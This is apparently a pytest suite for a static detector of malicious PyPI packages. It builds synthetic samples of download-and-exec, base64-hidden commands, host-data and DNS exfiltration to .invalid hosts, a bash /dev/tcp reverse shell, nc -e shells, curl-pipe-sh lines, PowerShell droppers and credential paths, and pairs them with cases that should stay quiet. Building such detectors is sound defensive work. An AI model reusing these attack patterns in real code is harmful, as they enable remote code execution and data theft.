"""Detectors for what real malware does, and the false alarms real packages raise.

Every snippet is written for this test, harmless and never run: hostnames are under .invalid /
.test, "payloads" print a word. Each detector has a firing case; each false-alarm kind seen on
real packages (version idiom, publish shortcut, credential paths in tests/docs, vendored code,
dup2 in a test suite, curl | bash in CI) has a quiet case.
"""

from __future__ import annotations

import base64

from slopspotter_lab.heuristics.static import analyze_artifact, file_role
from tests.fixtures.trees import write_tree as _tree

SETUP = "from setuptools import setup\nsetup(name='ok', version='1.0', packages=['ok'])\n"


def _sev(inds, id_):
    return {i.severity for i in inds if i.id == id_}


def _scan(tmp_path, files):
    return analyze_artifact(_tree(tmp_path, files), "pypi")


# ------------------------------------------------------------------ flows

def test_download_then_exec_on_a_later_statement(tmp_path):
    src = ("import urllib.request\n"
           "resp = urllib.request.urlopen('http://stage2.invalid/p')\n"
           "body = resp.read()\n"
           "code = body.decode('utf-8')\n"
           "exec(code)\n")
    inds = _scan(tmp_path, {"ok/__init__.py": src, "setup.py": SETUP})
    assert _sev(inds, "download_execute") == {"high"}
    inds = _scan(tmp_path / "b", {"setup.py": src + SETUP})
    assert _sev(inds, "download_execute") == {"critical"}


def test_decode_into_a_variable_then_exec(tmp_path):
    blob = base64.b64encode(b"print('synthetic')").decode()
    src = f"import base64\npayload = base64.b64decode('{blob}')\nstep = payload\nexec(step)\n"
    assert _sev(_scan(tmp_path, {"ok/__init__.py": src}), "encoded_exec") == {"high"}


def test_exec_of_bytes_and_hex_escaped_constants(tmp_path):
    hexed = "".join(f"\\x{b:02x}" for b in b"print('synthetic hex')")
    src = f"exec(b'print(\"synthetic bytes payload\")')\nexec('{hexed}')\n"
    inds = _scan(tmp_path, {"ok/run.py": src})
    assert "encoded_exec" in {i.id for i in inds}


def test_exec_through_an_alias(tmp_path):
    src = ("import builtins\nrun = getattr(builtins, 'exec')\nq = exec\n"
           "data = open('x.txt').read()\nrun(data)\nq(data)\n")
    inds = _scan(tmp_path, {"ok/__init__.py": src})
    assert any(i.id == "obfuscation" and "alias" in i.evidence for i in inds)


def test_code_hidden_after_a_long_run_of_spaces(tmp_path):
    src = "VERSION = '1.0'" + " " * 300 + ";import os\n"
    inds = _scan(tmp_path, {"ok/__init__.py": src})
    assert any(i.id == "obfuscation" and "spaces" in i.evidence for i in inds)


def test_host_data_sent_to_the_network(tmp_path):
    src = ("import socket, getpass, requests\n"
           "info = {'h': socket.gethostname(), 'u': getpass.getuser()}\n"
           "requests.post('https://collector.invalid/c', json=info)\n")
    assert _sev(_scan(tmp_path, {"ok/__init__.py": src}), "host_data_exfil") == {"high"}


def test_host_data_through_dig(tmp_path):
    src = ("import os, subprocess\nuser = os.getlogin()\n"
           "subprocess.run(['dig', user + '.oob.invalid'])\n")
    inds = _scan(tmp_path, {"setup.py": src + SETUP})
    assert _sev(inds, "host_data_exfil") == {"critical"}


def test_setup_py_following_a_sibling_module(tmp_path):
    helper = "import urllib.request\nurllib.request.urlopen('http://collector.invalid/ping')\n"
    setup = "import _helper\n" + SETUP
    inds = _scan(tmp_path, {"setup.py": setup, "_helper.py": helper})
    net = [i for i in inds if i.id == "setup_network"]
    assert net and "imported by setup.py" in net[0].evidence
    # the same module not imported by setup.py is ordinary package code
    assert "setup_network" not in {i.id for i in _scan(tmp_path / "b", {"setup.py": SETUP, "_helper.py": helper})}


def test_zipimport_payload(tmp_path):
    src = "import zipimport\nzipimport.zipimporter('blob.zip').load_module('x')\n"
    assert any(i.id == "obfuscation" and "zip" in i.evidence for i in _scan(tmp_path, {"ok/__init__.py": src}))


# ------------------------------------------------------------------ endpoints and Windows

def test_exfil_endpoints(tmp_path):
    hook = "https://discord.com/api/webhooks/123456789012345678/" + "A" * 40
    files = {"ok/a.py": f"URL = '{hook}'\n", "ok/b.py": "HOST = 'x1y2.oastify.com'\n",
             "ok/c.py": "U = 'http://203.0.114.7:8080/up'\n"}
    inds = _scan(tmp_path, files)
    assert _sev(inds, "exfil_endpoint") == {"high"}
    assert [i for i in inds if i.id == "exfil_endpoint"][0].extra.get("count") == 3


def test_api_templates_and_private_ips_are_not_endpoints(tmp_path):
    files = {"ok/a.py": "URL = 'https://discord.com/api/webhooks/{id}/{token}'\n"
                        "BOT = 'https://api.telegram.org/bot{token}/sendMessage'\n"
                        "LOCAL = 'http://127.0.0.1:8000/' ; LAN = 'http://192.168.1.10/'\n"}
    assert "exfil_endpoint" not in {i.id for i in _scan(tmp_path, files)}


def test_windows_only_droppers(tmp_path):
    src = ("import os, subprocess\n"
           "dst = os.path.join(os.getenv('APPDATA'), 'Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup')\n"
           "subprocess.Popen('powershell -w hidden -c echo synthetic', shell=True)\n")
    inds = _scan(tmp_path, {"setup.py": src + SETUP})
    assert _sev(inds, "windows_payload") == {"critical"}
    assert _sev(_scan(tmp_path / "b", {"ok/__init__.py": src}), "windows_payload") == {"high"}


# ------------------------------------------------------------------ never skipped quietly

def test_large_file_is_read_to_the_end(tmp_path):
    big = "# filler\n" * 300_000 + "import os\nos.system('curl -s http://stage2.invalid/x | sh')\n"
    assert len(big) > 2 * 1024 * 1024
    inds = _scan(tmp_path, {"ok/big.py": big})
    ids = {i.id for i in inds}
    assert {"download_execute", "incomplete_analysis"} <= ids


def test_bom_is_not_a_syntax_error(tmp_path):
    blob = base64.b64encode(b"print('synthetic')").decode()
    src = "\ufeffimport base64\nexec(base64.b64decode('" + blob + "'))\n"
    inds = _scan(tmp_path, {"ok/__init__.py": src})
    assert "encoded_exec" in {i.id for i in inds} and "incomplete_analysis" not in {i.id for i in inds}


def test_syntax_error_falls_back_to_patterns_and_says_so(tmp_path):
    src = "import base64\nprint 'python 2'\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    inds = _scan(tmp_path, {"setup.py": src})
    ids = {i.id for i in inds}
    assert {"encoded_exec", "incomplete_analysis"} <= ids
    assert _sev(inds, "incomplete_analysis") == {"info"}


# ------------------------------------------------------------------ false alarms of real packages

def test_version_idiom_is_quiet(tmp_path):
    setup = ("import os\nabout = {}\nhere = os.path.dirname(__file__)\n"
             "with open(os.path.join(here, 'ok', '__version__.py')) as f:\n    exec(f.read(), about)\n"
             "exec(open('ok/version.py').read())\n" + SETUP)
    assert analyze_artifact(_tree(tmp_path, {"setup.py": setup}), "pypi") == []


def test_publish_shortcut_is_info(tmp_path):
    setup = ("import os, sys\nif sys.argv[-1] == 'publish':\n"
             "    os.system('python setup.py sdist upload')\n    os.system('twine upload dist/*')\n" + SETUP)
    assert _sev(_scan(tmp_path, {"setup.py": setup}), "setup_process") == {"info"}


def test_build_step_running_a_config_tool_is_info(tmp_path):
    setup = ("import subprocess\nflags = subprocess.check_output(['pkg-config', '--cflags', 'libfoo'])\n" + SETUP)
    assert _sev(_scan(tmp_path, {"setup.py": setup}), "setup_process") == {"info"}


def test_credential_paths_in_tests_and_docs_are_info(tmp_path):
    files = {"tests/test_auth.py": "P = '~/.aws/credentials'\n", "docs/conf.py": "K = '~/.ssh/id_rsa'\n"}
    assert _sev(_scan(tmp_path, files), "credential_paths") == {"info"}


def test_vendored_code_is_demoted(tmp_path):
    src = "import marshal\ncode = marshal.loads(b'\\xe3synthetic code object bytes')\n"
    assert _sev(_scan(tmp_path, {"pip/_vendor/rich/_x.py": src}), "encoded_exec") <= {"info"}
    assert _sev(_scan(tmp_path / "b", {"ok/_x.py": src}), "encoded_exec") == {"medium"}


def test_marshal_of_a_pyc_read_at_run_time_is_quiet(tmp_path):
    # PyInstaller reads code objects out of .pyc files and its own archives: what marshal is for
    src = ("import marshal\n"
           "def load(path):\n    with open(path, 'rb') as f:\n        data = f.read()\n"
           "    return marshal.loads(data[16:])\n")
    assert "encoded_exec" not in {i.id for i in _scan(tmp_path, {"ok/archive.py": src})}
    hidden = ("import marshal, zlib, base64\n"
              f"code = marshal.loads(zlib.decompress(base64.b64decode('{base64.b64encode(b'x' * 40).decode()}')))\n")
    assert _sev(_scan(tmp_path / "b", {"ok/archive.py": hidden}), "encoded_exec") == {"medium"}


def test_long_test_urls_are_not_packed_payloads(tmp_path):
    # yt-dlp's extractors keep test URLs with long percent-encoded tokens in their _TESTS
    token = base64.b64encode(bytes(range(256)) * 8).decode().replace("/", "%2F").replace("+", "%2B")
    src = f"_TESTS = [{{'url': 'https://video.example.invalid/embed/?v={token}', 'id': '1'}}]\n"
    assert "obfuscation" not in {i.id for i in _scan(tmp_path, {"ok/extractor.py": src})}
    packed = f"BLOB = '{token}'\n"  # the same characters on their own still look packed
    assert _sev(_scan(tmp_path / "b", {"ok/extractor.py": packed}), "obfuscation") == {"medium"}


def test_public_ip_named_by_a_module_that_never_talks_is_info(tmp_path):
    quiet = "BASE = 'http://203.0.114.7:82/live'\ndef url(x):\n    return BASE + '/' + x\n"
    assert _sev(_scan(tmp_path, {"ok/extractor.py": quiet}), "exfil_endpoint") == {"info"}
    beacon = "import requests\nrequests.get('http://203.0.114.7:82/live')\n"
    assert _sev(_scan(tmp_path / "b", {"ok/extractor.py": beacon}), "exfil_endpoint") == {"medium"}


def test_build_helper_commands_are_read_at_their_callers(tmp_path):
    # lxml's buildlibxml: subprocess.call(cmd) in a helper, './configure' and 'make' from the callers
    helper = ("import subprocess\n"
              "def call_subprocess(cmd, **kw):\n    return subprocess.call(cmd, **kw)\n"
              "def cmmi(configure_cmd, build_dir):\n"
              "    call_subprocess(configure_cmd, cwd=build_dir)\n"
              "    call_subprocess(['make'] + ['-j2'], cwd=build_dir)\n"
              "def build(prefix):\n"
              "    base = ['./configure', '--prefix=%s' % prefix]\n"
              "    cmmi(base + ['--without-python'], 'libxml2')\n")
    setup = "import buildlib\n" + SETUP
    inds = _scan(tmp_path, {"setup.py": setup, "buildlib.py": helper})
    assert _sev(inds, "setup_process") == {"info"}
    bad = helper + "def fetch():\n    call_subprocess('curl -s https://stage2.invalid/x | sh', shell=True)\n"
    assert _sev(_scan(tmp_path / "b", {"setup.py": setup, "buildlib.py": bad}), "setup_process") == {"high"}


def test_dup2_in_a_test_suite_is_info(tmp_path):
    src = "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n"
    assert _sev(_scan(tmp_path, {"tests/test_io.py": src}), "reverse_shell") <= {"info"}
    assert _sev(_scan(tmp_path / "b", {"ok/shell.py": src}), "reverse_shell") == {"critical"}


def test_curl_pipe_bash_in_ci_script_is_info(tmp_path):
    files = {".github/install.sh": "curl -s https://get.example.invalid | bash\n"}
    assert _sev(_scan(tmp_path, files), "download_execute") == {"info"}


def test_file_roles():
    assert file_role("pkg-1.0/tests/test_x.py") == "tests"
    assert file_role("pip-24/src/pip/_vendor/rich/a.py") == "vendored"
    assert file_role("pkg-1.0/docs/conf.py") == "docs"
    assert file_role("pkg-1.0/pkg/__init__.py") == "module"
    assert file_role("pkg-1.0/pkg/test_utils.py") == "tests"


# ------------------------------------------------------------------ shapes seen in real malware

def test_telegram_bot_token_on_its_own(tmp_path):
    src = "TOKEN = '1234567890:AA" + "b" * 33 + "'\nCHAT = '42'\n"
    assert _sev(_scan(tmp_path, {"ok/bot.py": src}), "exfil_endpoint") == {"high"}


def test_base64_constant_hiding_a_download_and_run(tmp_path):
    hidden = base64.b64encode(b"curl https://stage2.invalid/x.sh | bash").decode()
    src = f"import base64, subprocess\nCMD = '{hidden}'\n"
    inds = _scan(tmp_path, {"ok/__init__.py": src})
    assert any(i.id == "download_execute" and "base64" in i.evidence for i in inds)


def test_local_decoder_helper_feeding_a_process(tmp_path):
    src = ("import base64, subprocess\n"
           "def unpack(s):\n    return base64.b64decode(s).decode()\n"
           "def go():\n    subprocess.Popen([unpack('ZWNobyBzeW50aGV0aWM=')])\n")
    assert "encoded_exec" in {i.id for i in _scan(tmp_path, {"ok/proc.py": src})}


def test_identifier_soup_and_escaped_strings(tmp_path):
    soup = "\n".join(f"{'lI' * 10}{'l' * k} = {k}" for k in range(12))
    escaped = "X = '" + "".join(f"\\x{b:02x}" for b in b"harmless synthetic text " * 40) + "'\n"
    escaped += "exec(X)\n"
    soup_inds = _scan(tmp_path / "a", {"ok/a.py": soup + "\n"})
    escaped_inds = _scan(tmp_path / "b", {"ok/b.py": escaped})
    assert any(i.id == "obfuscation" and "look-alike identifiers" in i.evidence for i in soup_inds)
    assert any(i.id == "obfuscation" and "escape sequences" in i.evidence for i in escaped_inds)


def test_process_at_import_in_package_init(tmp_path):
    src = "import subprocess\ntry:\n    subprocess.Popen(['python3', '-c', 'print(1)'])\nexcept Exception:\n    pass\n"
    inds = _scan(tmp_path, {"ok/__init__.py": src})
    assert any(i.id == "setup_process" and "at import" in i.evidence and i.severity == "high" for i in inds)
    # inside a function it only runs when called: not import-time
    quiet = "import subprocess\ndef f():\n    subprocess.Popen(['python3', '-c', 'print(1)'])\n"
    assert "setup_process" not in {i.id for i in _scan(tmp_path / "b", {"ok/__init__.py": quiet})}


def test_command_built_in_a_variable_then_run_at_build_time(tmp_path):
    setup = ("import subprocess\nout = 'x.exe'\n"
             "cmd = f\"powershell -Command Invoke-WebRequest -Uri 'https://dl.invalid/x.exe' -OutFile '{out}'\"\n"
             "subprocess.run(cmd, shell=True)\n" + SETUP)
    assert _sev(_scan(tmp_path, {"setup.py": setup}), "setup_process") == {"high"}
    config = "import subprocess\nsubprocess.check_output(['curl-config', '--libs'])\n" + SETUP
    assert _sev(_scan(tmp_path / "b", {"setup.py": config}), "setup_process") == {"info"}


def test_wget_module_download_then_startfile(tmp_path):
    src = ("import os, wget\nURL = 'http://203.0.114.7/Updater.exe'\n"
           "path = os.path.join(os.getenv('APPDATA'), 'Updater.exe')\n"
           "wget.download(URL, path)\nos.startfile(path)\n")
    inds = _scan(tmp_path, {"ok/__init__.py": src})
    assert _sev(inds, "download_execute") == {"high"}
    assert _sev(inds, "exfil_endpoint") == {"medium"}  # the public IP sits in a file that downloads


def test_gated_search_finds_what_a_whole_text_search_finds():
    import re

    from slopspotter_lab.heuristics.static import _GATES, CREDENTIAL_PATHS, REVERSE_SHELL, gated_search

    filler = "x = 1  # history of shadow credentials\n" * 120  # gate words everywhere, no match
    texts = [filler * 3, "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1\n" + filler, filler * 2 + "nc -e /bin/sh h 1\n",
             filler * 4 + "P = '~/.aws/credentials'\n", "nothing here\n", "ncat host 4 -e /bin/sh\n" * 3]
    for pattern, gates in ((REVERSE_SHELL, _GATES["reverse_shell"]), (CREDENTIAL_PATHS, _GATES["credential_paths"])):
        for text in texts:
            want, got = pattern.search(text), gated_search(pattern, text, text.lower(), gates)
            assert (want and want.span()) == (got and got.span())
    assert gated_search(re.compile("b"), "a" * 10 + "b", "a" * 10 + "b", ("b",)).start() == 10


def test_vendored_six_with_exec_and_urllib_names_is_quiet(tmp_path):
    # six (vendored by botocore, awscli) defines exec_ and aliases urllib: no flow between them
    six = ("import urllib.request\n"
           "def exec_(code, globs=None):\n    exec(code, globs)\n"
           "def fetch(url):\n    return urllib.request.urlopen(url)\n")
    assert "download_execute" not in {i.id for i in _scan(tmp_path, {"botocore/vendored/six.py": six})}
    flow = "import urllib.request\nexec(urllib.request.urlopen('http://stage2.invalid/p').read())\n"
    assert _sev(_scan(tmp_path / "b", {"ok/run.py": flow}), "download_execute") == {"high"}


def test_install_script_runs_a_script_it_wrote(tmp_path):
    setup = ("import os, subprocess\nCODE = 'print(1)'\n"
             "with open('helper-payload.py', 'w') as f:\n    f.write(CODE)\n"
             "dest = os.path.expanduser('~')\nos.rename('helper-payload.py', dest + '/helper-payload.py')\n"
             "subprocess.Popen(['python3', dest + '/helper-payload.py'])\n" + SETUP)
    inds = _scan(tmp_path, {"setup.py": setup})
    assert any(i.id == "setup_process" and i.severity == "high" and "wrote" in i.evidence for i in inds)
    # a build step running a script that ships with the package stays a build tool
    plain = "import subprocess\nsubprocess.check_call(['python3', 'tools/gen_version.py'])\n" + SETUP
    assert _sev(_scan(tmp_path / "b", {"setup.py": plain}), "setup_process") == {"info"}
